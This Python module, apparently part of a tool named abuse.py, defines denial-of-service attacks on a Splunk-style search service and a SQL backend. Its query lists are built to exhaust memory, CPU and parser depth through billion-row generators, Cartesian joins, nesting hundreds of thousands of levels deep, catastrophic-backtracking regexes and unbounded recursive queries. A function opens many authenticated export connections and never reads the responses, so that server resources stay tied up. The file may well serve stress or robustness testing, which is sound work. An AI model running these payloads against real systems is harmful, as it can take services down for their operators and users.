"""The attacks of abuse.py that are searches: what wants memory, time or depth, and answers nobody reads."""

import time

from attack import again


def searches(*texts):
    @again
    def run(attacker):
        for n in range(len(texts)):
            if attacker.goes_on():
                attacker.search(texts[(n + attacker.number) % len(texts)])

    return run


def queries(*texts):
    @again
    def run(attacker):
        for n in range(len(texts)):
            if attacker.goes_on():
                attacker.sql(texts[(n + attacker.number) % len(texts)])

    return run


SPL_MEMORY = searches(
    "| makeresults count=1000000000 | mvexpand _time",
    "| makeresults count=100000 | eval a=mvrange(0,10000)",
    "| makeresults count=100000 | streamstats count as n | eval a=mvrange(n,n+10000) | mvexpand a"
    " | sort 0 - a",
    "| makeresults count=300000 | eval x=random() | streamstats list(x) values(x)",
    "| makeresults count=100000 | streamstats count as n | eval k=\"k\".n | eval {k}=n | table *",
    "| makeresults count=20000000 | streamstats count as n | stats values(n) dc(n) by n",
    "| makeresults | " + " | ".join(['eval s=replace("aaaaaaaaaa","a","aaaaaaaaaa")'] * 10),
)

JOINS = searches(
    "| makeresults count=1000000 | eval k=1 | join max=0 k"
    " [| makeresults count=50000 | eval k=1 | streamstats count as n]",
    "search index=filler | join max=0 host [search index=filler | fields host, source, _raw]",
    "| makeresults count=10000000 | streamstats count as n | join n"
    " [| makeresults count=50000 | streamstats count as n]",
    "search index=filler | append [search index=filler] | append [search index=filler]"
    " | transaction host | stats count by _raw",
)

SQL_MEMORY = queries(
    "SELECT array_agg(value) FROM generate_series(1, 1000000000)",
    "SELECT repeat('x', 2000000000)",
    "SELECT repeat('x', 15000000 + value) FROM generate_series(1, 1000)",
    "SELECT range(0, 1000000) FROM generate_series(1, 10000)",
    "SELECT a.value, b.value FROM generate_series(1, 1000000) a, generate_series(1, 1000000) b"
    " ORDER BY a.value * b.value DESC",
    "SELECT value, count(*) FROM generate_series(1, 1000000000) GROUP BY value",
    "SELECT string_agg(cast(value AS varchar), ',') FROM generate_series(1, 100000000)",
)

SQL_JOINS = queries(
    "SELECT count(*) FROM generate_series(1, 10000000) a JOIN generate_series(1, 10000000) b"
    " ON a.value % 10 = b.value % 10",
    "SELECT count(*) FROM generate_series(1, 100000000) a, generate_series(1, 100000) b"
    " WHERE a.value * b.value = 7",
    "WITH RECURSIVE t AS (SELECT 1 AS n UNION ALL SELECT n + 1 FROM t) SELECT count(*) FROM t",
)

DEEP_SQL = queries(
    "SELECT " + "(" * 100_000 + "1" + ")" * 100_000,
    "SELECT " + "1+" * 200_000 + "1",
    "SELECT " + "NOT " * 100_000 + "true",
    "SELECT 1" + " UNION ALL SELECT 1" * 20_000,
    "SELECT * FROM (" * 3_000 + "SELECT 1" + ")" * 3_000,
    "SELECT 1 WHERE " + " AND ".join(f"{n}={n}" for n in range(50_000)),
    "SELECT 1" + "::int" * 50_000,
    "SELECT 1 FROM honest" + " JOIN honest ON true" * 3_000,
    "SELECT " + "CASE WHEN true THEN " * 20_000 + "1" + " END" * 20_000,
)

DEEP_SPL = searches(
    "| makeresults | eval a=" + "(" * 100_000 + "1" + ")" * 100_000,
    "| makeresults" + " [ makeresults" * 5_000 + "]" * 5_000,
    "index=honest " + "(" * 50_000 + "a" + ")" * 50_000,
    "index=honest " + "NOT " * 50_000 + "a",
    "| makeresults | eval a=" + "a." * 100_000 + "a",
    "| makeresults" + " | eval a=1" * 20_000,
    "index=honest x IN (" + ",".join(str(n) for n in range(200_000)) + ")",
    "| makeresults | where " + " OR ".join(f"a={n}" for n in range(50_000)),
)

# These hold the processors for as long as they are allowed to.
LONG_SEARCHES = searches(
    "| makeresults count=1000000 | streamstats count as n | eval s=md5(n), t=sha512(s), u=sha512(t)"
    " | eval v=sha512(u), w=sha512(v), x=sha512(w) | stats dc(s) dc(v) dc(x)",
    '| makeresults count=1000000 | eval a="aaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaaab"'
    ' | rex field=a "(?<x>(a+)+$)" | rex field=a "(?<y>(?=(a+)+c)a)" | stats count',
    "| makeresults count=1000000 | eval x=random() | sort 0 x | streamstats avg(x) window=1000"
    " | stats perc99(x)",
)


LARGE_RESULTS = searches(
    "| makeresults count=400000 | streamstats count as n | eval a=md5(n), b=md5(a), c=md5(b)",
    "search index=filler",
    "search index=filler | table _time host source _raw user | sort 0 _raw",
)


@again
def unread_exports(attacker):
    """Exports of which nobody reads anything."""
    texts = [
        '| makeresults count=1000000 | eval text="nobody reads this"',
        "search index=filler | append [search index=filler] | eval copy=_raw._raw._raw",
        "search index=filler | sort 0 _raw",
    ]
    search = texts[attacker.number % len(texts)]
    form = f"search={search.replace(' ', '%20').replace('|', '%7C')}&output_mode=json"
    connections = []
    for _ in range(10):
        connection = attacker.opened(attacker.target["web"])
        if connection is None:
            break
        session = attacker.session()["Authorization"]
        connection.sendall(
            f"POST /services/search/jobs/export HTTP/1.1\r\nHost: x\r\nAuthorization: {session}\r\n"
            f"Content-Type: application/x-www-form-urlencoded\r\nContent-Length: {len(form)}\r\n"
            f"\r\n{form}".encode()
        )
        connections.append(connection)
    for connection in connections:
        connection.settimeout(max(0.1, attacker.until - time.monotonic()))
        try:
            # The status line, to count it; nothing else.
            attacker.note(connection.recv(15).decode(errors="replace") + ", not read on")
        except OSError:
            attacker.note("no answer until the end")
    time.sleep(max(0, attacker.until - time.monotonic()))


@again
def many_jobs(attacker):
    form = {"exec_mode": "normal"}
    attacker.search("| makeresults count=100000 | eval a=random()", **form)
